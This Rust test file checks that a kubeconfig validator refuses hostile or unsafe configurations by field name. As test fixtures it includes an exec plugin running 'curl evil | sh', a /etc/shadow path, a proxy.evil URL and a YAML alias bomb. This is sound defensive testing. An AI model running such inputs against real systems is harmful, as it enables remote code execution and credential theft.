//! What validation refuses, each by name and field, never echoing a value: exec and auth providers, file paths, oversized or hostile YAML, bad certificates and contexts.

use super::*;

#[test]
fn exec_auth_provider_file_paths_and_insecure_are_refused_by_name() {
    let f = fixture(Shape::K3s);
    let exec = "exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'curl evil | sh']}";
    let e = assert_refused_naming(&with_user_line(&f.yaml, exec), "users[default].user.exec");
    assert!(e.to_string().contains("CVE-2022-24817"), "{e}");
    assert!(!e.to_string().contains("curl"), "{e}");
    assert_refused_naming(
        &with_user_line(&f.yaml, "auth-provider: {name: oidc}"),
        "users[default].user.auth-provider",
    );
    for field in ["client-certificate", "client-key", "tokenFile"] {
        let line = format!("{field}: /etc/shadow");
        let e = assert_refused_naming(
            &with_user_line(&f.yaml, &line),
            &format!("users[default].user.{field}"),
        );
        assert!(e.to_string().contains("file path"), "{e}");
    }
    assert_refused_naming(
        &with_cluster_line(&f.yaml, "certificate-authority: /etc/ssl/ca.pem"),
        "clusters[default].cluster.certificate-authority",
    );
    assert_refused_naming(
        &with_cluster_line(&f.yaml, "insecure-skip-tls-verify: true"),
        "clusters[default].cluster.insecure-skip-tls-verify",
    );
    assert_refused_naming(
        &with_cluster_line(&f.yaml, "proxy-url: http://proxy.evil:3128"),
        "clusters[default].cluster.proxy-url",
    );
    assert_refused_naming(
        &with_user_line(&f.yaml, "username: admin"),
        "users[default].user.username",
    );
    assert_refused_naming(
        &with_user_line(&f.yaml, "password: hunter2"),
        "users[default].user.password",
    );
    // Spellings Go's YAML reads as true, or that are not booleans at all, are refused
    // by name too rather than guessed at.
    for spelling in ["\"true\"", "yes", "True", "1", "[true]"] {
        assert_refused_naming(
            &with_cluster_line(&f.yaml, &format!("insecure-skip-tls-verify: {spelling}")),
            "clusters[default].cluster.insecure-skip-tls-verify",
        );
    }
    // false is harmless, and null means absent.
    sanitized(
        &with_cluster_line(&f.yaml, "insecure-skip-tls-verify: false"),
        "dev",
    );
    sanitized(&with_user_line(&f.yaml, "exec: null"), "dev");
}

#[test]
fn a_plugin_in_an_unselected_user_is_refused_too() {
    let f = fixture(Shape::K3s);
    let yaml = f.yaml.replace(
        "users:\n",
        "users:\n- name: other\n  user:\n    exec: {command: /bin/sh}\n",
    );
    assert_refused_naming(&yaml, "users[other].user.exec");
}

#[test]
fn alias_bomb_is_refused_quickly() {
    let _quiet = support::timing::exclusive();
    let mut bomb = String::from(
        "apiVersion: v1\nkind: Config\nlol0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n",
    );
    for i in 1..10 {
        let prev = i - 1;
        bomb.push_str(&format!(
            "lol{i}: &a{i} [*a{prev}, *a{prev}, *a{prev}, *a{prev}, *a{prev}, *a{prev}, *a{prev}, *a{prev}, *a{prev}]\n"
        ));
    }
    let started = std::time::Instant::now();
    let e = refusal(bomb.as_bytes());
    assert!(
        started.elapsed() < std::time::Duration::from_secs(2),
        "took {:?}",
        started.elapsed()
    );
    assert!(matches!(e, KubeconfigError::Yaml { .. }), "{e}");
    assert!(e.to_string().to_lowercase().contains("alias"), "{e}");
}

#[test]
fn deep_nesting_is_refused_without_overflow() {
    let deep = format!(
        "apiVersion: v1\nkind: Config\nx: {}{}\n",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let e = refusal(deep.as_bytes());
    assert!(matches!(e, KubeconfigError::Yaml { .. }), "{e}");
    let mut block = String::from("apiVersion: v1\nx:\n");
    for depth in 1..200 {
        block.push_str(&format!("{}k{depth}:\n", "  ".repeat(depth)));
    }
    assert!(matches!(
        refusal(block.as_bytes()),
        KubeconfigError::Yaml { .. }
    ));
}

#[test]
fn fifty_mib_is_refused_before_parsing() {
    let _quiet = support::timing::exclusive();
    let big = vec![b'a'; 50 * 1024 * 1024];
    let started = std::time::Instant::now();
    let e = refusal(&big);
    assert!(started.elapsed() < std::time::Duration::from_secs(1));
    assert!(
        matches!(e, KubeconfigError::TooLarge { size, .. } if size == big.len()),
        "{e}"
    );
    assert!(e.to_string().contains("1048576-byte limit"), "{e}");
}

#[test]
fn invalid_base64_is_refused_by_field_without_echoing_data() {
    let f = fixture(Shape::K3s);
    let key_b64 = b64(&f.key_pem);
    let broken = format!("{}$${}", &key_b64[..20], &key_b64[20..]);
    let e = assert_refused_naming(
        &f.yaml.replace(&key_b64, &broken),
        "users[default].user.client-key-data",
    );
    assert!(e.to_string().contains("base64"), "{e}");
    assert!(!e.to_string().contains(&key_b64[..20]), "{e}");
    let ca_b64 = b64(&f.ca.pem);
    assert_refused_naming(
        &f.yaml.replace(&ca_b64, &ca_b64[..ca_b64.len() - 3]),
        "clusters[default].cluster.certificate-authority-data",
    );
    // Raw PEM where base64 belongs (Go would refuse it too).
    let raw_pem = f.ca.pem.replace('\n', "\\n");
    assert_refused_naming(
        &f.yaml.replace(&ca_b64, &format!("\"{raw_pem}\"")),
        "clusters[default].cluster.certificate-authority-data",
    );
}

/// A CA bundle over 16 certificates is refused by field (each CA is judged against every
/// chain the spoke presents); 16 are taken.
#[test]
fn a_ca_bundle_over_sixteen_certificates_is_refused_by_field() {
    let f = fixture(Shape::K3s);
    let ca_b64 = b64(&f.ca.pem);
    let bundle = |n: usize| f.yaml.replace(&ca_b64, &b64(&f.ca.pem.repeat(n)));
    let e = assert_refused_naming(
        &bundle(17),
        "clusters[default].cluster.certificate-authority-data",
    );
    assert!(
        e.to_string().contains("17 certificates, over the 16"),
        "{e}"
    );
    assert_eq!(
        sanitized(&bundle(16), "dev")
            .ca_pem()
            .matches("BEGIN")
            .count(),
        16
    );
}

#[test]
fn key_of_another_certificate_is_refused() {
    let f = fixture(Shape::K3s);
    let other = fixture(Shape::K3s);
    let yaml = f.yaml.replace(&b64(&f.key_pem), &b64(&other.key_pem));
    let e = assert_refused_naming(&yaml, "users[default].user.client-key-data");
    assert!(e.to_string().contains("does not belong"), "{e}");
    assert!(
        e.to_string()
            .contains(&certs::fingerprint(&f.leaf.der).to_string()),
        "names the certificate: {e}"
    );
}

#[test]
fn client_chain_that_does_not_chain_is_refused() {
    let f = fixture(Shape::K3s);
    let stranger = kc_fixtures::ca("k3s-client-ca@1", kc_fixtures::Alg::P256);
    let good = b64(&format!(
        "{}{}",
        f.leaf.pem,
        f.client_ca.as_ref().unwrap().pem
    ));
    let bad = b64(&format!("{}{}", f.leaf.pem, stranger.pem));
    let e = assert_refused_naming(
        &f.yaml.replace(&good, &bad),
        "users[default].user.client-certificate-data",
    );
    assert!(e.to_string().contains("does not verify"), "{e}");
    // kubeadm: a lone leaf claiming the cluster CA as issuer must verify against it.
    let k = fixture(Shape::Kubeadm);
    let forged_ca = kc_fixtures::ca("kubernetes", kc_fixtures::Alg::Rsa2048);
    let yaml = k.yaml.replace(&b64(&k.ca.pem), &b64(&forged_ca.pem));
    assert_refused_naming(
        &yaml,
        "users[kubernetes-admin].user.client-certificate-data",
    );
}

#[test]
fn current_context_naming_a_missing_context_is_refused() {
    let f = fixture(Shape::K3s);
    let yaml = f
        .yaml
        .replace(
            "contexts:\n",
            "contexts:\n- context:\n    cluster: default\n    user: default\n  name: second\n",
        )
        .replace("current-context: default", "current-context: gone");
    let e = assert_refused_naming(&yaml, "current-context");
    assert!(e.to_string().contains("\"gone\""), "{e}");
    assert!(
        e.to_string().contains("default, second") || e.to_string().contains("second, default"),
        "{e}"
    );
    // With two contexts and none selected, nothing is guessed.
    let unset = yaml.replace("current-context: gone\n", "");
    assert_refused_naming(&unset, "current-context");
    // A context pointing at a missing cluster.
    let dangling = f
        .yaml
        .replace("    cluster: default\n", "    cluster: elsewhere\n");
    assert_refused_naming(&dangling, "contexts[default].context.cluster");
}

#[test]
fn duplicates_multiple_documents_and_merge_keys_are_refused() {
    let f = fixture(Shape::K3s);
    let dup = f.yaml.replace(
        "users:\n",
        "users:\n- name: default\n  user:\n    token: abc\n",
    );
    assert_refused_naming(&dup, "users[default]");
    let dup_key = f
        .yaml
        .replace("kind: Config\n", "kind: Config\nkind: Config\n");
    assert!(matches!(
        refusal(dup_key.as_bytes()),
        KubeconfigError::Yaml { .. }
    ));
    let two_docs = format!("{}---\n{}", f.yaml, f.yaml);
    assert!(matches!(
        refusal(two_docs.as_bytes()),
        KubeconfigError::Yaml { .. }
    ));
    let merge = format!("{}x: &m {{a: 1}}\ny:\n  <<: *m\n", f.yaml);
    assert!(matches!(
        refusal(merge.as_bytes()),
        KubeconfigError::Yaml { .. }
    ));
}

#[test]
fn missing_ca_plain_http_and_missing_credentials_are_refused() {
    let f = fixture(Shape::K3s);
    let no_ca = f.yaml.replace(
        &format!("    certificate-authority-data: {}\n", b64(&f.ca.pem)),
        "",
    );
    assert_refused_naming(
        &no_ca,
        "clusters[default].cluster.certificate-authority-data",
    );
    let http = f
        .yaml
        .replace("https://127.0.0.1:6443", "http://127.0.0.1:6443");
    let e = assert_refused_naming(&http, "clusters[default].cluster.server");
    assert!(e.to_string().contains("https"), "{e}");
    let no_key = f
        .yaml
        .replace(&format!("    client-key-data: {}\n", b64(&f.key_pem)), "");
    assert_refused_naming(&no_key, "users[default].user.client-key-data");
    let not_config = f.yaml.replace("kind: Config", "kind: Secret");
    assert_refused_naming(&not_config, "kind");
}

#[test]
fn rewrite_refuses_what_is_not_a_host() {
    let mut s = sanitized(&fixture(Shape::K3s).yaml, "dev");
    for bad in [
        "",
        "evil.com/path",
        "a@b",
        "1.2.3",
        "host name",
        "[not-v6]",
        "x:1",
    ] {
        let e = s.rewrite_server(bad, None, None).unwrap_err();
        assert_eq!(
            e.field(),
            Some("clusters[dev].cluster.server"),
            "{bad}: {e}"
        );
    }
    assert!(s.rewrite_server("10.1.1.1", Some(0), None).is_err());
    let e = s
        .rewrite_server("10.1.1.1", None, Some("bad name!"))
        .unwrap_err();
    assert_eq!(e.field(), Some("clusters[dev].cluster.tls-server-name"));
    assert_eq!(
        s.server_string(),
        "https://127.0.0.1:6443",
        "unchanged after refusals"
    );
}

#[test]
fn spoke_name_must_be_a_dns_name() {
    let kc = kubeconfig::parse(fixture(Shape::K3s).yaml.as_bytes()).unwrap();
    for bad in ["", "Dev", "a b", "dev\"", "x".repeat(300).as_str()] {
        assert!(kubeconfig::sanitize(&kc, bad).is_err(), "{bad}");
    }
}
